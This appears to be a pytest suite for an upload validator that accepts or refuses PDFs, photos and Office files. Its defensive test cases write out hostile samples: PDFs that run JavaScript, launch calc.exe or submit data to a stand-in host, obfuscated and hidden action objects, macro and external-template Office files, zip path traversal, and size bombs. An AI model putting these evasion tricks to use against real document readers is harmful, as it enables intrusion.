"""Files are accepted, or refused with a message that says what to do."""

import io

import pytest
from PIL import Image

from pst_desk.examples import paper_pdf
from recommendations.uploads import DOCX, JPEG, MAX_BYTES, PDF, PNG, XLSX, BadFile
from recommendations.uploads.child import office_files, pdf
from recommendations.uploads.child.kinds import kind_of
from recommendations.uploads.pages import scaled_picture
from tests.recommendations.uploads import hostile, samples
from tests.recommendations.uploads.samples import office_file, photo, zipped

EXTERNAL_TEMPLATE = samples.links("attachedTemplate", "https://jahat.example/x.dotm")
HYPERLINK = samples.links("hyperlink", "https://bps.go.id")
MACRO_TYPES = samples.content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml")
DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'


def type_of(content):
    """Return what the child process finds, in this process: `test_apart.py` tests the way between them."""
    return kind_of(content)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (paper_pdf("Surat"), PDF),
        (samples.written_pdf(lambda writer: writer.encrypt("", "pemilik")), PDF),
        (samples.long_pdf(pdf.MAX_PAGES), PDF),
        (photo(), JPEG),
        (photo(turned=True) + b"a film that a telephone writes behind its photo" * 2000, JPEG),
        (photo(kind="PNG"), PNG),
        (office_file(), DOCX),
        (office_file(word___rels__document=HYPERLINK), DOCX),
        (zipped({"[Content_Types].xml": samples.content_types(), "word/_rels/document.xml.rels": HYPERLINK}), DOCX),
        (office_file(samples.SHEET), XLSX),
    ],
)
def test_a_file_is_known_by_its_content(content, expected):
    assert type_of(content) == expected


def test_a_pdf_with_packed_objects_is_taken():
    from weasyprint import HTML

    content = HTML(string="<p>Surat dengan <a href='#bawah'>tautan</a><p id=bawah>Bawah").write_pdf()

    assert b"/ObjStm" in content
    assert type_of(content) == PDF


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"MZ\x90\x00 a program", "bukan PDF"),
        (b"<html><script>alert(1)</script>", "bukan PDF"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "bukan PDF"),
        (photo(kind="GIF"), "bukan PDF"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "HEIC.*Paling Kompatibel"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "Simpan sebagai DOCX, XLSX, atau PDF"),
        (paper_pdf("Surat") + zipped({"x.exe": b"MZ"}), "dua jenis"),
        (photo() + zipped({"x.exe": b"MZ"}), "dua jenis"),
        (b"GIF89a" + paper_pdf("Surat"), "dua jenis"),
        (photo()[:20] + paper_pdf("Surat"), "dua jenis"),
    ],
)
def test_an_unknown_kind_of_file_is_refused_with_what_to_do(content, words):
    with pytest.raises(BadFile, match=words):
        type_of(content)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (paper_pdf("Surat")[:-30], "terpotong"),
        (paper_pdf("Surat")[:200] + b"%%EOF", "terpotong"),
        (b"%PDF-1.7\n%%EOF", "terpotong"),
        (samples.acting_pdf(), "JavaScript"),
        (samples.acting_pdf().replace(b"/JavaScript", b"/J#61va#53cript"), "JavaScript"),
        (samples.packed_acting_pdf(), "JavaScript"),
        (samples.written_pdf(lambda writer: writer.encrypt("", "pemilik"), samples.acting_pdf()), "JavaScript"),
        (samples.acting_pdf(b"<< /S /Launch /F (calc.exe) >>"), "membuka program"),
        (samples.acting_pdf(b"<< /S /URI /URI (https://jahat.example) >>"), "tautan ke alamat web.*Cetak sekali lagi"),
        (samples.acting_pdf(b"<< /S /U#52I /U#52I (https://jahat.example) >>"), "tautan ke alamat web"),
        (samples.acting_pdf(b"<< /S /SubmitForm /F (https://jahat.example) >>"), "mengirim isinya ke luar"),
        (samples.acting_pdf(b"<< /S /GoToR /F (lain.pdf) /D [0 /Fit] >>"), "membuka berkas lain"),
        (samples.acting_pdf(b"<< /S /ImportData /F (isi.fdf) >>"), "mengambil isi dari luar"),
        (samples.acting_pdf(b"<< /S /Rendition /OP 0 >>"), "film atau suara"),
        (samples.acting_pdf(b"<< /S /Movie /T (film) >>"), "film atau suara"),
        (samples.acting_pdf(b"<< /S/Sound /Sound 9 0 R >>"), "film atau suara"),
        (samples.acting_pdf(b"<< /S /Thread /F (lain.pdf) /D 0 >>"), "membuka berkas lain"),
        (
            samples.pdf(samples.CATALOG % b"/AcroForm << /XFA [(a) 4 0 R] /Fields [] >>", samples.PAGES, samples.PAGE),
            "XFA",
        ),
        (samples.written_pdf(lambda writer: writer.add_attachment("x.exe", b"MZ")), "berkas lain"),
        (samples.written_pdf(lambda writer: writer.encrypt("rahasia")), "kata sandi"),
        (samples.long_pdf(pdf.MAX_PAGES + 1), "201 halaman, paling banyak 200"),
    ],
)
def test_a_pdf_that_is_broken_or_acts_by_itself_is_refused_with_what_to_do(content, words):
    with pytest.raises(BadFile, match=words):
        type_of(content)


def indirect(entries: bytes, *others: bytes) -> bytes:
    """Return a PDF whose page has these entries, and these objects from number 4 on."""
    page = samples.PAGE[:-2] + entries + b" >>"
    return samples.pdf(samples.CATALOG % b"", samples.PAGES, page, *others)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (indirect(b"/AA << /O << /S 4 0 R /F (lain.pdf) /D 0 >> >>", b"/Thread"), "membuka berkas lain"),
        (indirect(b"/AA << /O << /S 4 0 R >> >>", b"/#4aavaScript"), "JavaScript"),
        (indirect(b"/Annots [4 0 R]", b"<< /Subtype 5 0 R /Rect [0 0 9 9] >>", b"/Movie"), "film"),
        (indirect(b"/Annots [<< /Type /Annot /Subtype /Screen >>]"), "film"),
        (indirect(b"/Annots [4 0 R]", b"<< /Subtype /FileAttachment /FS 5 0 R >>", b"<< /UF (x) >>"), "berkas lain"),
        (indirect(b"/Data 4 0 R", hostile.stream(b"U3D", b"/OnInstantiate 5 0 R"), hostile.stream(b"x")), "JavaScript"),
        (indirect(b"/Contents 4 0 R", hostile.stream(b"", b"/F (//server/lain)")), "isi dari luar"),
        (indirect(b"/Contents 4 0 R", hostile.stream(b"", b"/F 5 0 R"), b"(//server/lain)"), "isi dari luar"),
        (
            indirect(
                b"/Resources << /XObject << /F 4 0 R >> >>",
                hostile.stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F 5 0 R /Page 0 >>"),
                b"<< /Type /Filespec /UF (lain.pdf) >>",
            ),
            "isi dari luar",
        ),
    ],
)
def test_a_pdf_that_acts_through_another_object_is_refused(content, words):
    with pytest.raises(BadFile, match=words):
        type_of(content)


LOST = b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj"
"""An object that no table of the file names. A reader that mends files finds it."""


@pytest.mark.parametrize(
    "content",
    [
        indirect(b"/Note 4 0 R", b"(" + LOST + b")"),
        indirect(b"/Note 4 0 R", b"null % " + LOST.replace(b"\n", b" ")),
        indirect(b"/Note 4 0 R", b"<< /Length 60 >>\nstream\n" + LOST + b"\nendstream"),
        indirect(b"/Note 4 0 R", b"null\nendobj\n% (\n" + LOST + b"\n% )"),
        indirect(b"/Note 4 0 R", b"<< /a#28 0 >>\nendobj\n" + LOST.replace(b"Java", b"J#61va")),
        indirect(b"/Note 4 0 R", b"(7 0 obj \\( )\nendobj\n" + LOST),
        indirect(b"/Note 4 0 R", b"null\nendobj\n" + LOST.replace(b" >>", b" /T (\\)) >>")),
        indirect(b"").replace(b"trailer\n<<", b"trailer\n<< /X << /S /JavaScript >>"),
        indirect(b"/Note 4 0 R", b"<< /X << /Length 0 >> stream\n\nendstream /S /JavaScript /JS (x) >>"),
        indirect(b"/Note 4 0 R", b"<< /X 0 endobj /S /JavaScript /JS (x) >>"),
        indirect(b"/Note 4 0 R", b"<< /X 0 obj << >> endobj /S /JavaScript /JS (x) >>"),
    ],
)
def test_an_object_that_our_reader_passes_over_may_not_act(content):
    with pytest.raises(BadFile, match="JavaScript"):
        type_of(content)


@pytest.mark.parametrize(
    "content",
    [
        paper_pdf("Manual /JavaScript dan /URI"),
        indirect(b"/Note (Cara (dan batas) /JavaScript (bab \\( 2) di PDF)"),
        indirect(b"/Note (baris\r\n/Launch) % /SubmitForm"),
        indirect(b"/Tag 4 0 R", b"<< /Type /StructElem /S /Thread /P 3 0 R /T (Judul /URI) >>"),
        indirect(b"/Contents 4 0 R", b"<< /Length 27 >>\nstream\nBT (/S /JavaScript) Tj ET  \nendstream"),
        indirect(b"/Note (<< /S /JavaScript >> dan /Launch)"),
        indirect(b"/Annots [<< /Subtype /Text /F 4 /Contents (/JS) >>]"),
        indirect(b"/Resources << /Font << /F 4 0 R >> >>", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
    ],
)
def test_a_pdf_may_name_actions_in_its_texts(content):
    assert type_of(content) == PDF


def test_the_packed_action_is_not_to_be_found_in_the_raw_bytes():
    assert samples.packed_acting_pdf().startswith(b"%PDF-")
    assert b"JavaScript" not in samples.packed_acting_pdf()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (photo(kind="PNG")[:-20], "terpotong"),
        (photo((800, 800))[:-300], "terpotong"),
        (photo(turned=True)[:150], "terpotong"),
        (samples.claiming_png(60_000, 60_000), "paling banyak 50 juta piksel"),
        (samples.claiming_png(9_000, 9_000), "paling banyak 50 juta piksel"),
        (samples.claiming_png(65_536, 10), "tidak wajar"),
    ],
)
def test_a_picture_that_is_broken_or_too_large_is_refused_with_what_to_do(content, words):
    with pytest.raises(BadFile, match=words):
        type_of(content)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (office_file()[:-20], "terpotong"),
        (zipped({"surat.pdf": paper_pdf("Surat")}), "zip tidak diterima"),
        (zipped({"[Content_Types].xml": "<Types/>"}), "zip tidak diterima"),
        (zipped({"[Content_Types].xml": "no xml"}), "tidak wajar"),
        (office_file(word__vbaProject="x"), "makro"),
        (zipped({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": "<d/>"}), "makro"),
        (office_file(samples.SHEET, xl__macrosheets__sheet1="<m/>"), "makro"),
        (zipped({"[Content_Types].xml": samples.content_types(), "word/embeddings/oleObject1.bin": "x"}), "OLE"),
        (zipped({"[Content_Types].xml": samples.content_types(), "word/activeX/activeX1.xml": "<x/>"}), "OLE"),
        (
            zipped({"[Content_Types].xml": samples.content_types(), "word/_rels/s.xml.rels": EXTERNAL_TEMPLATE}),
            "dari luar",
        ),
        (
            zipped({"[Content_Types].xml": samples.content_types(), "word/_rels/s.xml.RELS": EXTERNAL_TEMPLATE}),
            "dari luar",
        ),
        (zipped({"[Content_Types].xml": samples.content_types(), "../../x": "x"}), "tidak wajar"),
        (zipped({"[Content_Types].xml": samples.content_types(), "C:\\x": "x"}), "tidak wajar"),
        (office_file(word__settings=DTD), "tidak wajar"),
        (office_file(word__x=bytes(30 * 1024 * 1024)), "terlalu besar bila dibuka"),
        (office_file(**{f"p{n}": "" for n in range(office_files.MAX_PARTS)}), "terlalu besar bila dibuka"),
    ],
)
def test_an_office_file_that_is_broken_or_acts_is_refused_with_what_to_do(content, words):
    with pytest.raises(BadFile, match=words):
        type_of(content)


@pytest.mark.parametrize("name", ["word/x.xml", "word/x.XML", "word/_rels/x.Rels"])
def test_the_tags_of_a_part_with_a_name_in_capitals_are_counted_too(name, monkeypatch):
    monkeypatch.setattr(office_files, "MAX_TAGS", 100)

    with pytest.raises(BadFile, match="terlalu besar bila dibuka"):
        type_of(zipped({"[Content_Types].xml": samples.content_types(), name: "<r>" + "<a/>" * 100 + "</r>"}))


def test_an_office_file_with_a_damaged_part_is_refused():
    content = office_file(word__x="Surat " * 100)
    place = content.index(b"word/x") + 10

    with pytest.raises(BadFile, match="terpotong"):
        type_of(content[:place] + b"\x00\x01\x02" + content[place + 3 :])


def test_a_file_of_the_limit_is_taken():
    content = photo()

    assert type_of(content + bytes(MAX_BYTES - len(content))) == JPEG


@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"\n\n \t", b"\xef\xbb\xbf\r\n"])
def test_a_pdf_may_begin_with_the_mark_of_utf8_or_white_space(before):
    assert type_of(before + paper_pdf("Surat")) == PDF


def test_a_photo_of_two_hundred_megapixels_is_taken_and_scaled_down():
    content = photo((16_320, 12_240))

    picture = Image.open(io.BytesIO(scaled_picture(content)))

    assert type_of(content) == JPEG
    assert picture.size == (2000, 1500)
